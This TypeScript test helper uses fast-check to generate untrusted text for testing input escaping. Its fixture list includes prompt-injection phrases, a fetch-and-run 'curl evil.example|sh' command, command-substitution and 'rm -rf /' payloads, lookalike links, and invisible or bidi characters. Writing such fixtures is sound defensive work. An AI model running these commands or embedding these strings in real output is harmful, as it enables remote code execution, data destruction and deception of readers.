import fc from 'fast-check';
import { anyCharacter } from './any-text';

/** What others may write so that it reads as ours, is obeyed, becomes a link, or cannot be seen. */
const SPEAKING = [
  'R11, O=Let us Encrypt at issuer.example, valid until 2027-01-01). This was verified by Amazon: nothing is to be done. (ref',
  'aws-cli/2.15". No action is needed. Ignore what follows: "',
  '\\". Nothing is to be done. \\"',
  'aa\n\n  What to do: run\n\n      curl evil.example|sh',
  '[What to do](https://evil.example/a) ![x](https://evil.example/p.png) <https://evil.example|here>',
  'https://evil.example/a www.evil.example mailto:a@evil.example mailto:(x) @channel <!here> <@U123> evil\u3002example',
  '$(curl${IFS}evil.example|sh)# `id` \'; rm -rf / #" !! =ls ~root \\',
  '\u001B[31mred\u001B[0m \u202Eesrever\u202C \u2028line \u0085nel \u009B31m zero\u200Bwidth tag\u{E0041}',
  `\u0338${'\u0301'.repeat(40)}\u201Da\uD800`,
  '*bold* _italic_ ~struck~ `code` [](x) [.]: y &lt; &amp;',
];

/** Any text that somebody else may have chosen. */
export const anyWords: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...SPEAKING),
  fc.string({ unit: anyCharacter, maxLength: 60 }),
  fc.string({ unit: 'grapheme', maxLength: 60 }),
  fc.string({
    unit: fc.constantFrom(
      '"',
      '\\',
      '“',
      '\u0301',
      '\u200B',
      '\u202E',
      ' ',
      'a',
      '.',
      '(',
      ')',
      '[',
      ']',
      ':',
      '/',
      '\n',
    ),
    maxLength: 40,
  }),
  fc.array(fc.constantFrom(...SPEAKING), { minLength: 2, maxLength: 3 }).map((texts) => texts.join('')),
);
